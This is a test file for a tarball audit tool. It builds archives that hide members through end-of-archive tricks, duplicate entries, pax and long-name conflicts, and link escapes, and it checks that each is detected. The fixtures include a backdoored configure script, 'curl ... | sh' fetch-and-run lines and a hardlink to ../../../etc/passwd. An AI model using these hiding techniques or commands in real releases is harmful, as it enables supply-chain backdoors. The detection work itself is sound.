/**
 * Hostile archives, end to end: each test is a way to hide a member from an audit that reads the
 * archive differently from `tar x`, and checks that the audit reports it (rule archive-ambiguity,
 * high) and audits the content GNU tar actually writes. Archives are written byte by byte here.
 */
import { describe, it, expect } from "vitest";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import { audit } from "../src/audit.js";
import { readTarball } from "../src/archive/read-tar.js";
import { blobId } from "../src/archive/blob-id.js";
import { makeRepo } from "../samples/lib/fixture.js";
import type { AuditResult } from "../src/types.js";
import { tarBytes, header, pad, patchHeader } from "./archive-tar-writer.js";
import { tmp } from "./tmp.js";

const P = "pkg-1.0/";
const CONFIGURE = "#!/bin/sh\necho 'checking for cc... cc'\nexit 0\n";
const EVIL = "#!/bin/sh\necho 'checking for cc... cc'\nCFLAGS=\"$CFLAGS -DALLOW_ANY_PASSWORD=1\"\nexit 0\n";
const AUTH = "int auth(const char *pw) { return check(pw); }\n";
const GIT = { configure: { content: CONFIGURE, mode: 0o755 }, "src/auth.c": AUTH, README: "pkg\n" };

/** The git tree as a tarball prefix (root dir, sources), without an end marker. */
const clean = () => tarBytes().dir(P).file(`${P}README`, "pkg\n").dir(`${P}src`).file(`${P}src/auth.c`, AUTH).file(`${P}configure`, CONFIGURE, 0o755);

async function auditBytes(bytes: Buffer, name = "pkg-1.0.tar"): Promise<AuditResult> {
  const dir = tmp();
  makeRepo(join(dir, "repo"), [{ files: GIT, tag: "v1.0" }]);
  const file = join(dir, name);
  writeFileSync(file, bytes);
  return audit({ tarball: file, repo: join(dir, "repo"), ref: "v1.0" });
}

const ambiguities = (r: AuditResult) => r.findings.filter((f) => f.rule === "archive-ambiguity");
const highAt = (r: AuditResult, path: RegExp) => ambiguities(r).filter((f) => f.severity === "high" && (path.test(f.path) || path.test(f.message)));

describe("archive-ambiguity: hiding places are reported", () => {
  it("member after end-of-archive marker is reported (xz-style clean copy after backdoored one)", async () => {
    const r = await auditBytes(clean().file(`${P}configure`, EVIL, 0o755).eof().file(`${P}configure`, CONFIGURE, 0o755).eof().bytes());
    expect(highAt(r, /configure/)).not.toHaveLength(0);
    // The backdoored copy is the one tar x leaves, so it is the one compared with git.
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "modified", path: "configure" }));
  });

  it("concatenated gzip members: an end marker in the first hides the second", async () => {
    const bytes = Buffer.concat([clean().file(`${P}configure`, EVIL, 0o755).eof().gzip(), tarBytes().file(`${P}configure`, CONFIGURE, 0o755).eof().gzip()]);
    const r = await auditBytes(bytes, "pkg-1.0.tar.gz");
    expect(highAt(r, /after the end-of-archive marker/)).not.toHaveLength(0);
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "modified", path: "configure" }));
  });

  it("concatenated gzip members without an end marker are read as one archive (what gzip -d | tar x does)", async () => {
    const bytes = Buffer.concat([gzipSync(clean().bytes()), tarBytes().file(`${P}second-stream.sh`, "curl -s http://x.invalid | sh\n", 0o755).eof().gzip()]);
    const r = await auditBytes(bytes, "pkg-1.0.tar.gz");
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "second-stream.sh" }));
  });

  it("directory header with size > 0 (used to hang, then exit 0 with no output)", async () => {
    const r = await auditBytes(clean().dir(`${P}d`, 512).file(`${P}hidden-evil.sh`, "curl -s http://x.invalid | sh\n", 0o755).eof().bytes());
    expect(highAt(r, /hidden-evil\.sh/)).not.toHaveLength(0);
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "hidden-evil.sh" }));
  });

  it("size > 0 declared by a pax record on a symlink header hides the next member the same way", async () => {
    const t = clean().pax([["size", "512"]]).raw(header(`${P}sl`, { type: "2", link: "README" })).file(`${P}hidden.sh`, "evil\n", 0o755).eof();
    const r = await auditBytes(t.bytes());
    expect(highAt(r, /symlink header declares 512 bytes.*hidden\.sh/)).not.toHaveLength(0);
  });

  it("directory symlink then member through it", async () => {
    const r = await auditBytes(clean().symlink(`${P}tools`, "src").file(`${P}tools/auth.c`, "int auth(const char *pw) { return 1; }\n").eof().bytes());
    expect(highAt(r, /tools\/auth\.c/)).not.toHaveLength(0);
    // GNU tar writes src/auth.c through the link: the modified source is audited at its real path.
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "modified", path: "src/auth.c" }));
    expect(r.findings.some((f) => f.path === "src/auth.c" && f.rule !== "archive-ambiguity" && (f.severity === "high" || f.severity === "medium"))).toBe(true);
  });

  it("hardlink target ../../../etc/passwd", async () => {
    const r = await auditBytes(clean().hardlink(`${P}hl-up`, "../../../etc/passwd").eof().bytes());
    expect(highAt(r, /hl-up/)).not.toHaveLength(0);
    expect(ambiguities(r)[0]!.message).toMatch(/GNU tar links to 'etc\/passwd'/);
  });

  it("global pax path", async () => {
    const r = await auditBytes(clean().pax([["path", `${P}evil-global.sh`]], "g").file(`${P}README`, "pkg\n").eof().bytes());
    expect(highAt(r, /evil-global\.sh/)).not.toHaveLength(0);
    // GNU tar extracts README's bytes as evil-global.sh, and README is then missing.
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "evil-global.sh" }));
  });

  it("zero-length pax header", async () => {
    const t = clean().raw(header("PaxHeaders/empty", { type: "x", size: 0 })).file(`${P}after-1.txt`, "a".repeat(100)).file(`${P}after-2.txt`, "b".repeat(100)).eof();
    const r = await auditBytes(t.bytes());
    expect(highAt(r, /after-1\.txt/)).not.toHaveLength(0);
    expect(r.changes.map((c) => c.path)).toEqual(expect.arrayContaining(["after-1.txt", "after-2.txt"]));
  });

  it("symlink escape hidden by a later same-named member", async () => {
    const r = await auditBytes(clean().symlink(`${P}lnk`, "/tmp/outside-lnk").file(`${P}lnk/payload.txt`, "payload\n").file(`${P}lnk`, "now a file\n").eof().bytes());
    const lnk = highAt(r, /^lnk$/).map((f) => f.message).join("\n");
    expect(lnk).toMatch(/first a symlink to \/tmp\/outside-lnk \(outside the tree\)/);
    expect(highAt(r, /lnk\/payload\.txt/)).not.toHaveLength(0);
  });

  it("duplicate members with different content: backdoored copy first, clean copy last", async () => {
    const r = await auditBytes(clean().file(`${P}configure`, EVIL, 0o755).file(`${P}configure`, CONFIGURE, 0o755).eof().bytes());
    expect(highAt(r, /^configure$/)[0]?.message).toMatch(/more than once with different content/);
  });

  it("pax path and GNU long name that disagree", async () => {
    const r = await auditBytes(clean().pax([["path", `${P}from-pax.sh`]]).gnuLongName(`${P}from-longname.txt`).file(`${P}from-header.txt`, "curl x | sh\n").eof().bytes());
    expect(highAt(r, /from-pax\.sh/)).not.toHaveLength(0);
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "from-pax.sh" }));
  });

  it("two GNU long names for one member (GNU tar takes the last, Python the first)", async () => {
    const r = await auditBytes(clean().gnuLongName(`${P}README.txt`).gnuLongName(`${P}evil.sh`).file(`${P}short`, "curl x | sh\n", 0o755).eof().bytes());
    expect(highAt(r, /evil\.sh/)[0]?.message).toMatch(/GNU tar uses the last, Python tarfile the first/);
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "evil.sh" }));
  });

  it("NUL byte in a pax path is cut where C extractors cut it", async () => {
    const r = await auditBytes(clean().pax([["path", `${P}evil\0.txt`]]).file(`${P}evil.sh`, "curl x | sh\n", 0o755).eof().bytes());
    expect(highAt(r, /NUL byte/)).not.toHaveLength(0);
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "evil" }));
  });

  it("hardlink to a member that only comes later: nothing is extracted there (low)", async () => {
    const r = await auditBytes(clean().hardlink(`${P}hl-forward`, `${P}later.txt`).file(`${P}later.txt`, "later\n").eof().bytes());
    expect(ambiguities(r).filter((f) => f.path === "hl-forward").map((f) => f.severity)).toEqual(["low"]);
  });

  it("unknown type flag is audited as the regular file GNU tar writes, and reported", async () => {
    const r = await auditBytes(clean().raw(header(`${P}weird-type`, { type: "Z", size: 5 })).raw(pad(Buffer.from("data\n"))).eof().bytes());
    expect(highAt(r, /weird-type/)[0]?.message).toMatch(/unknown type flag 'Z'/);
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "added", path: "weird-type" }));
  });

  it("old GNU sparse member over configure: the rebuilt content (not the raw data) is audited", async () => {
    const data = Buffer.from(EVIL);
    const o = (n: number, w: number) => `${n.toString(8).padStart(w - 1, "0")}\0`;
    // Map: one segment of the data at offset 0; real size adds a 100-byte hole at the end.
    const h = patchHeader(header(`${P}configure`, { type: "S", size: data.length, mode: 0o755 }), [
      [257, "ustar  \0"],
      [386, o(0, 12)],
      [398, o(data.length, 12)],
      [483, o(data.length + 100, 12)],
    ]);
    const r = await auditBytes(clean().raw(h).raw(pad(data)).eof().bytes());
    expect(highAt(r, /^configure$/).map((f) => f.message).join("\n")).toMatch(/sparse member/);
    expect(r.changes).toContainEqual(expect.objectContaining({ kind: "modified", path: "configure" }));
    const file = join(tmp(), "s.tar");
    writeFileSync(file, clean().raw(h).raw(pad(data)).eof().bytes());
    const l = await readTarball(file);
    expect(l.entries.find((e) => e.path === "configure")?.oid).toBe(blobId(Buffer.concat([data, Buffer.alloc(100)])));
  });

  it("a clean git-archive-like tarball has no ambiguity (negative)", async () => {
    const r = await auditBytes(clean().eof().raw(Buffer.alloc(8192)).bytes());
    expect(ambiguities(r)).toEqual([]);
    expect(r.notChecked).toEqual([]);
  });

  it("identical duplicate members and a hardlink to an earlier file are not ambiguous (negative)", async () => {
    const r = await auditBytes(clean().file(`${P}README`, "pkg\n").hardlink(`${P}README.txt`, `${P}README`).eof().bytes());
    expect(ambiguities(r)).toEqual([]);
  });
});

describe("archive reader: malformed input is an error, never a silent result", () => {
  const bad: [string, Buffer, RegExp][] = [
    ["a wrong header checksum", (() => {
      const h = header(`${P}x`, { size: 2 });
      h[0] ^= 1;
      return Buffer.concat([clean().bytes(), h, pad(Buffer.from("x\n")), Buffer.alloc(1024)]);
    })(), /wrong checksum/],
    ["a size field with trailing garbage", Buffer.concat([clean().bytes(), header(`${P}x`, { sizeField: Buffer.from("0000000012x\0", "latin1") }), pad(Buffer.from("0123456789")), Buffer.alloc(1024)]), /malformed size/],
    ["a negative base-256 size", Buffer.concat([clean().bytes(), header(`${P}x`, { sizeField: Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xf0]) }), Buffer.alloc(1024)]), /negative/],
    ["a pax size that is not a number", clean().pax([["size", "0x10"]]).file(`${P}x`, "x\n").eof().bytes(), /invalid size/],
    ["an 8 GiB pax header", Buffer.concat([clean().bytes(), header("PaxHeaders/huge", { type: "x", size: 0o77777777777 }), Buffer.alloc(4096)]), /pax header .* bytes long/],
  ];
  for (const [what, bytes, msg] of bad) {
    it(`rejects ${what}`, async () => {
      const file = join(tmp(), "bad.tar");
      writeFileSync(file, bytes);
      await expect(readTarball(file)).rejects.toMatchObject({ code: "E_CORRUPT", message: expect.stringMatching(msg) });
    });
  }

  it("a file name with a newline still gives a one-line error", async () => {
    const file = join(tmp(), "bad\nname.tar.gz");
    writeFileSync(file, "not a tarball\n");
    await expect(readTarball(file)).rejects.toMatchObject({ code: "E_NOT_AN_ARCHIVE", message: expect.not.stringContaining("\n") });
  });

  it("a header that promises more data than the stream holds is truncated", async () => {
    const file = join(tmp(), "short.tar");
    writeFileSync(file, Buffer.concat([clean().bytes(), header(`${P}huge.bin`, { size: 1 << 30 })]));
    await expect(readTarball(file)).rejects.toMatchObject({ code: "E_TRUNCATED" });
  });
});

describe("archive reader: bounded memory", () => {
  it("keeps at most the retained-bytes budget and lists the rest as not kept", async () => {
    const t = clean();
    for (let i = 0; i < 6; i++) t.file(`${P}blob${i}.dat`, Buffer.alloc(100_000, i + 1));
    const file = join(tmp(), "many.tar");
    writeFileSync(file, t.eof().bytes());
    const l = await readTarball(file, { retain: () => true, retainBudget: 250_000 });
    const blobs = l.entries.filter((e) => e.path.startsWith("blob"));
    expect(blobs.filter((e) => e.data)).toHaveLength(2);
    expect(blobs.every((e) => e.oid === blobId(Buffer.alloc(100_000, Number(e.path[4]) + 1)))).toBe(true);
    expect(l.problems.filter((p) => /budget/.test(p.reason)).map((p) => p.path)).toHaveLength(4);
  });

  it("a large member keeps a head that is its own small buffer, not a slice of a big one", async () => {
    const big = Buffer.alloc(9 * 1024 * 1024, 7);
    const file = join(tmp(), "big.tar");
    writeFileSync(file, clean().file(`${P}big.bin`, big).eof().bytes());
    const l = await readTarball(file, { retain: () => true });
    const e = l.entries.find((x) => x.path === "big.bin")!;
    expect(e.oid).toBe(blobId(big));
    expect(e.data).toBeUndefined();
    expect(e.head?.length).toBe(64 * 1024);
    expect(e.head?.buffer.byteLength).toBeLessThanOrEqual(64 * 1024);
  });
});
